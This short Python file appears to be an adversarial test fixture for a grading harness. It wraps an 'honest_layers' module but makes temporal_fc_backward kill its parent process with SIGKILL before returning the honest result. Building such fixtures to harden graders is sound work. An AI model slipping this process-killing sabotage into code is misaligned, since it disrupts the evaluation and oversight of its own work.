"""Sends SIGKILL to the process that started it."""

import os
import signal

import honest_layers
from honest_layers import *


def temporal_fc_backward(dout, cache):
    os.kill(os.getppid(), signal.SIGKILL)
    return honest_layers.temporal_fc_backward(dout, cache)
